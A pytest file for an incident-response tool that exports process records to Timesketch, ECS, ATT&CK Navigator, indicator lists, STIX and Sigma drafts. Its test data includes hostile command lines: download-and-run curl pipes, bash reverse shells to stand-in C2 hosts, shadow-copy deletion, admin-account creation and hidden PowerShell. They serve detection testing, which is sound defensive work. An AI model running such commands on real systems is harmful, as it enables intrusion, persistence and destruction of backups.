"""What each format says: the columns, types and ids that the programs which read it are documented to want."""

from __future__ import annotations

import csv
import io
import json
import re
import uuid
from datetime import datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine.errors import NotFound
from engine.handover.draft import Selection, draft, stable_parts
from engine.handover.indicators import indicators, mark
from engine.handover.material import Started
from engine.handover.stix_ids import observable
from engine.handover.told import techniques
from engine.hash_lists.hashes import by_kind
from tests.engine.handover.samples import incident, row, told, written

SHA256 = "ab" * 32


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


# Timesketch


def test_timesketch_has_its_columns_first_and_times_of_one_form() -> None:
    rows = [row(1), row(2, time="2026-03-04T09:02:00.000000Z"), row(3, time="")]
    text, count, said = told("timesketch", rows)
    assert count == 3
    assert text.splitlines()[0].startswith("message,datetime,timestamp,timestamp_desc,tag,")
    found = table(text)
    assert [len(one["datetime"]) for one in found] == [32] * 3
    for one in found:
        moment = datetime.fromisoformat(one["datetime"])
        assert int(one["timestamp"]) == round(moment.timestamp() * 1_000_000)
    assert found[0]["timestamp"] == "1772614860250000"
    assert [one["timestamp_desc"] for one in found] == ["Process created", "Process created", "Not a time"]
    assert said == ["1 of these processes have no time: they stand at 1970-01-01 as 'Not a time'."]


def test_timesketch_takes_tags_as_a_list_in_both_forms() -> None:
    rows = [row(1, verdict="malicious", note="seen #mail #T1566.001")]
    (one,) = table(written("timesketch", rows))
    tags = json.loads(one["tag"])
    assert tags[:3] == ["oddkin", "verdict:malicious", "F1/1"]
    assert {"T1566.001", "mail"} <= set(tags)
    assert json.loads(written("timesketch-jsonl", rows))["tag"] == tags


def test_a_line_for_timesketch_leaves_out_what_is_not_known() -> None:
    one = json.loads(written("timesketch-jsonl", [row(1, hashes="", user="", pid=None)]))
    assert not {"username", "pid", "sha256_hash"} & set(one)
    assert isinstance(one["timestamp"], int)
    assert one["message"].startswith("Process created on WEB01 by C:\\inetpub\\w3wp.exe: cmd.exe /c whoami 1")


# ECS


def test_a_document_of_ecs_has_scores_verdict_and_techniques() -> None:
    one = json.loads(written("ecs", [row(1, verdict="malicious", note="#T1566", hashes=f"SHA256={SHA256},MD5={'1' * 32}")]))
    assert one["process"]["hash"] == {"sha256": SHA256, "md5": "1" * 32}
    assert one["process"]["parent"]["executable"] == "C:\\inetpub\\w3wp.exe"
    assert "T1566" in one["threat"]["technique"]["id"]
    assert (one["oddkin"]["score"], one["oddkin"]["verdict"], one["oddkin"]["incident"]) == (2.5, "malicious", "F1/1")
    assert one["user"] == {"name": "ann", "domain": "CORP"}


# Navigator


def test_a_layer_counts_processes_by_technique() -> None:
    chain = ("c:\\windows\\system32\\cmd.exe", "c:\\windows\\system32\\vssadmin.exe")
    shadows = {"command_line": "vssadmin.exe delete shadows /all", "image": chain[1], "chain": chain}
    rows = [row(number, **shadows) for number in range(1, 8)]
    text, count, _ = told("navigator", [*rows, row(9, note="#T9999.001", verdict="malicious")])
    layer = json.loads(text)
    assert (layer["domain"], layer["versions"]["layer"]) == ("enterprise-attack", "4.5")
    by = {one["techniqueID"]: one for one in layer["techniques"]}
    assert count == len(by)
    assert by["T1490"]["score"] == layer["gradient"]["maxValue"] == 7
    assert by["T1490"]["comment"].splitlines()[-1] == "… 2 more"
    assert by["T9999.001"]["comment"].startswith("P911 F1/1 on WEB01: named in the note")
    assert by["T9999.001"]["metadata"] == [{"name": "malicious", "value": "1"}]


def test_a_layer_of_nothing_is_a_layer() -> None:
    text, count, _ = told("navigator", [])
    layer = json.loads(text)
    assert (count, layer["techniques"]) == (0, [])
    assert layer["gradient"]["maxValue"] > layer["gradient"]["minValue"]


def test_techniques_come_from_tables_and_notes_each_once() -> None:
    found = [
        one.technique for one in techniques(row(1, note="was #T1059.003, T1059.003 and XT1234 T12345", command_line="whoami"))
    ]
    assert found[0] == "T1059.003"
    assert len(found) == len(set(found))
    assert "T1234" not in found


# Indicators


@pytest.mark.parametrize(
    ("line", "wanted"),
    [
        ("curl -s http://192.0.2.77:8080/x.sh|sh", {("url", "http://192.0.2.77:8080/x.sh"), ("ipv4", "192.0.2.77")}),
        ("bash -i >& /dev/tcp/10.1.2.3/443 0>&1", {("ipv4", "10.1.2.3")}),
        ("bash -i >& /dev/tcp/c2.evil.example/443", {("domain", "c2.evil.example")}),
        ("wget https://U:pw@Files.Evil.com/a?b=1&c=2 -O-",
         {("url", "https://U:pw@Files.Evil.com/a?b=1&c=2"), ("domain", "files.evil.com")}),
        ("nslookup evil.ru", {("domain", "evil.ru")}),
        ("ssh root@srv.corp.local", {("domain", "srv.corp.local")}),
        ("net use \\\\FS01\\share", {("host", "fs01"), ("path", "\\\\FS01\\share")}),
        ("copy a \\\\10.0.0.5\\c$\\x.exe", {("ipv4", "10.0.0.5"), ("path", "\\\\10.0.0.5\\c$\\x.exe")}),
        ('rundll32 "C:\\Users\\A B\\x.dll",#1', {("path", "C:\\Users\\A B\\x.dll")}),
        ("%TEMP%\\a.exe /x", {("path", "%TEMP%\\a.exe")}),
        ("ping 2001:db8::1", {("ipv6", "2001:db8::1")}),
        ("curl http://[2001:db8::2]/a", {("url", "http://[2001:db8::2]/a"), ("ipv6", "2001:db8::2")}),
    ],
)  # fmt: skip
def test_what_a_command_line_names(line: str, wanted: set[tuple[str, str]]) -> None:
    assert {(one.kind, one.value) for one in indicators(row(1, command_line=line)) if one.where == "command line"} == wanted


@pytest.mark.parametrize(
    "line",
    [
        "\\a\\90.0.4430.212\\chrome.exe", "java -version 1.8.0", "app --at 10:20:30", "python setup.py run.sh",
        "powershell [System.Net.Sockets.TcpClient]::new", "/opt/app/1.2.3.4/bin", "tree.com", "a.b.c.d", "999.1.1.1",
        "powershell -enc aAB0AHQAcAA6AC8ALwBlAHYAaQBsAC4AYwBvAG0A", "hxxp://evil[.]com",
    ],
)  # fmt: skip
def test_what_is_no_address_and_no_domain(line: str) -> None:
    """Versions, times, files, classes; what is encoded or defanged is not guessed at."""
    assert [one for one in indicators(row(1, command_line=line)) if one.kind in {"ipv4", "ipv6", "domain", "url", "host"}] == []


@pytest.mark.parametrize(
    ("kind", "value", "said"),
    [
        ("ipv4", "10.0.0.1", "private address"), ("ipv4", "127.0.0.1", "this machine itself"),
        ("ipv4", "169.254.0.1", "link-local"),
        ("ipv4", "203.0.113.9", "address of documentations"), ("ipv4", "8.8.8.8", ""), ("ipv4", "224.0.0.1", "multicast"),
        ("domain", "download.microsoft.com", "well-known vendor: microsoft.com"), ("domain", "notmicrosoft.com", ""),
        ("domain", "srv.corp.local", "name inside of an estate"), ("url", "http://10.0.0.1/a", "private address"),
        ("url", "https://raw.githubusercontent.com/x", "well-known vendor: githubusercontent.com"), ("sha256", SHA256, ""),
        ("path", "C:\\Windows\\System32\\cmd.exe", "in a directory of the system"), ("path", "C:\\Windows\\Temp\\a.exe", ""),
    ],
)  # fmt: skip
def test_what_is_marked(kind: str, value: str, said: str) -> None:
    assert mark(kind, value) == said


def test_a_list_of_indicators_counts_and_drops_nothing() -> None:
    rows = [
        row(1, command_line="curl http://10.0.0.9/a", hashes=f"SHA256={SHA256}"),
        row(2, command_line="curl http://10.0.0.9/a", host="DB", image="c:\\windows\\system32\\CMD.exe", verdict="malicious"),
        row(3, command_line="x", hashes=f"SHA256={SHA256}", image="C:\\Temp\\cmd.exe", time=""),
    ]
    text, count, _ = told("iocs", rows)
    found = {(one["kind"], one["value"]): one for one in table(text)}
    assert count == len(found) == 5
    address = found["ipv4", "10.0.0.9"]
    assert (address["processes"], address["hosts"], address["mark"]) == ("2", "2", "private address")
    assert (address["first"], address["last"]) == (rows[0].time, rows[1].time)
    assert (address["verdicts"], address["example"], address["where"]) == ("malicious", "P111", "command line")
    assert found["path", "C:\\Windows\\System32\\cmd.exe"]["processes"] == "2"  # Windows knows no case
    assert found["sha256", SHA256]["mark"] == ""  # one of its files is the system's, the other is not


@given(st.text(st.characters()), st.text("abc./:\\@%-[]0123456789 \"'"))
def test_any_command_line_is_looked_through(one: str, other: str) -> None:
    for found in indicators(row(1, command_line=one + other, image=other, hashes=one)):
        assert found.value
        assert isinstance(mark(found.kind, found.value), str)


def test_hashes_are_as_long_as_they_say() -> None:
    assert by_kind(f"SHA256={SHA256},MD5={SHA256},IMPHASH={'0' * 32}") == {"sha256": SHA256, "imphash": "0" * 32}
    assert by_kind("AB" * 20) == {"sha1": "ab" * 20}
    assert by_kind("MD5=xyz") == {} == by_kind(None) == by_kind("zz" * 16)


# STIX


def bundle(text: str) -> dict[str, list[dict[str, Any]]]:
    found: dict[str, list[dict[str, Any]]] = {}
    for one in json.loads(text)["objects"]:
        found.setdefault(one["type"], []).append(one)
    return found


def test_a_bundle_has_processes_with_parents_files_and_accounts() -> None:
    rows = [
        row(1, hashes=f"SHA256={SHA256}"),
        row(2, parent_process="P111", command_line="curl http://192.0.2.7/a", verdict="malicious", note="bad", labelled_by="ann",
            labelled_at="2026-03-05T10:00:00.000000Z"),
    ]  # fmt: skip
    text, count, _ = told("stix", rows)
    found = bundle(text)
    first, second = found["process"]
    assert second["parent_ref"] == first["id"]
    by_id = {one["id"]: one for kind in found.values() for one in kind}
    assert count == len(by_id)
    assert by_id[first["image_ref"]]["hashes"] == {"SHA-256": SHA256}
    assert by_id[by_id[first["image_ref"]]["parent_directory_ref"]]["path"] == "C:\\Windows\\System32"
    assert by_id[first["creator_user_ref"]]["account_login"] == "CORP\\ann"
    (seen,) = found["observed-data"]
    assert (seen["first_observed"], seen["last_observed"]) == (rows[0].time, rows[1].time)
    assert {by_id[ref]["type"] for ref in seen["object_refs"]} == {
        "process",
        "file",
        "directory",
        "user-account",
        "ipv4-addr",
        "url",
    }
    why, judged = found["note"]
    assert "T1059.003" in {one["external_id"] for one in why["external_references"]} or why["external_references"]
    assert (judged["content"], judged["authors"], judged["object_refs"]) == ("bad", ["ann"], [second["id"]])
    (tie,) = found["relationship"]
    assert by_id[tie["target_ref"]]["name"] == "WEB01"
    assert all(ref in by_id for one in by_id.values() for name, ref in one.items() if name.endswith("_ref"))


def test_ids_are_the_same_for_the_same_things_and_no_others() -> None:
    one, other = bundle(written("stix", [row(1)])), bundle(written("stix", [row(1), row(2)]))
    assert [file["id"] for file in one["file"]] == [file["id"] for file in other["file"]]
    assert one["process"][0]["id"] == other["process"][0]["id"] != other["process"][1]["id"]
    assert one["observed-data"][0]["id"] != other["observed-data"][0]["id"]
    assert {uuid.UUID(made["id"].partition("--")[2]).version for kind in other.values() for made in kind} == {5}


def test_an_observable_has_the_id_of_the_specification() -> None:
    """As the library stix2 has it; of several hashes one contributes, whatever their order."""
    assert observable("ipv4-addr", {"value": "198.51.100.3"}) == "ipv4-addr--28bb3599-77cd-5a82-a950-b5bc3caf07c4"
    hashes_ = {"SHA-256": SHA256, "MD5": "0" * 32}
    assert observable("file", {"hashes": hashes_, "name": "a"}) == observable("file", {"name": "a", "hashes": {"MD5": "0" * 32}})


def test_processes_in_no_incident_are_told_by_host() -> None:
    found = bundle(written("stix", [row(1, incident=""), row(2, incident="", host="DB"), row(3)]))
    assert sorted(one["labels"][0] for one in found["observed-data"]) == [
        "F1/1", "processes of DB in no incident", "processes of WEB01 in no incident",
    ]  # fmt: skip


# Sigma


def started(count: int = 1, **more: Any) -> Started:
    one = row(1, **more)
    return Started(one.image, one.parent_image, one.command_line, one.host, tuple(range(100, 100 + count)))


JUDGED = {"verdict": "malicious", "labelled_by": "ann", "labelled_at": "2026-03-05T10:00:00.000000Z"}


def test_a_draft_says_what_it_matches_elsewhere() -> None:
    line = "cmd.exe /c net user bob P4ss /add & net localgroup administrators bob /add"
    rows = [row(1, command_line=line, user="CORP\\bob", **JUDGED)]
    case = [started(command_line=line), started(3, command_line=line, host="DB"), started(9, command_line="cmd.exe /c dir")]
    text, count, said = told("sigma", rows, case=case, verdicts=lambda ids: {100: "malicious", 101: "benign"})
    assert (count, said) == (1, [])
    assert "status: experimental" in text
    assert "        Image|endswith: '\\cmd.exe'\n        ParentImage|endswith: '\\w3wp.exe'\n" in text
    assert [part for part in ("' /c'", "localgroup", "administrators", "' /add'") if f"- {part}" not in text] == []
    assert "bob" not in text.partition("detection:")[2]
    assert "P4ss" not in text
    assert "it matches 3 processes on 2 hosts: 1 of the incident, 2 elsewhere (1 without a verdict, 1 benign)" in text
    assert "level: medium" in text
    assert "author: 'ann, drafted by oddkin'" in text
    assert "date: '2026-03-05'" in text


def test_a_draft_that_matches_nothing_else_is_high_and_has_its_id_of_what_it_detects() -> None:
    lines = ("cmd.exe /c whoami 5", "cmd.exe /c whoami 77", "cmd.exe /c ipconfig")
    drafts = [written("sigma", [row(1, command_line=line, **JUDGED)], case=[started(command_line=line)]) for line in lines]
    assert ["level: high" in one for one in drafts] == [True] * 3
    first, second, third = (re.findall("^id: (.*)", one, re.MULTILINE) for one in drafts)
    assert first == second != third


def test_a_selection_of_everyday_life_is_left_out_and_that_is_said() -> None:
    rows = [
        row(1, command_line="vssadmin delete shadows", image="C:\\Windows\\System32\\vssadmin.exe", **JUDGED),
        row(2, command_line="", image="C:\\Windows\\System32\\conhost.exe", **JUDGED),
    ]
    case = [started(50, image="C:\\Windows\\System32\\conhost.exe", command_line="conhost 0x4")]
    text, _, _ = told("sigma", rows, case=case)
    assert "conhost" not in text.partition("detection:")[2]
    assert "Left out, as it speaks of everyday life: conhost.exe started by w3wp.exe, 1 inside, 49 elsewhere." in text


def test_nothing_judged_means_no_draft() -> None:
    with pytest.raises(NotFound, match="called malicious"):
        written("sigma", [row(1)])
    text, count, said = told("sigma", [], incidents=[incident([row(1)], "F2/1"), incident([row(1, **JUDGED)])])
    assert (count, said) == (1, ["No rule was drafted of F2/1: nothing in there was called malicious."])
    assert text.count("title:") == 1


TEXT = st.text(st.sampled_from("abz /-\\\"'.:*?=1&|\u202e"), max_size=30)


@given(st.lists(st.tuples(TEXT, TEXT, TEXT), min_size=1, max_size=4))
def test_a_draft_matches_the_processes_that_it_was_drafted_from(texts: list[tuple[str, str, str]]) -> None:
    rows = [
        row(number, image=f"C:\\{image}\\a.exe", command_line=line, parent_image=parent, **JUDGED)
        for number, (image, line, parent) in enumerate(texts, start=1)
    ]
    made = draft(incident(rows))
    assert made is not None
    assert made.left == 0
    for one in rows:
        assert made.matches(one.image, one.parent_image, one.command_line)


def test_words_that_somebody_filled_in_are_not_in_a_draft() -> None:
    one = row(
        1, user="CORP\\liam.keller", host="WS-1038",
        command_line='powershell.exe -nop -w hidden -c "iex liam WS-1038 keller C:\\Users\\x\\a1.ps1 http://1.2.3.4/abc '
        'QUJDREVGR0hJSktMTU5PUFFSU1RVVg== comsvcs.dll"',
        image="C:\\x\\powershell.exe",
    )  # fmt: skip
    assert list(stable_parts(one)) == [" -nop", " -w", "hidden", " -c", "iex", "comsvcs.dll"]


def test_a_selection_knows_no_case() -> None:
    one = Selection("\\cmd.exe", "", (" /C",))
    assert one.matches("C:\\X\\CMD.EXE", "anything", "cmd /c dir")
    assert not one.matches("C:\\X\\xcmd.exe.bak", "", "cmd /c dir")
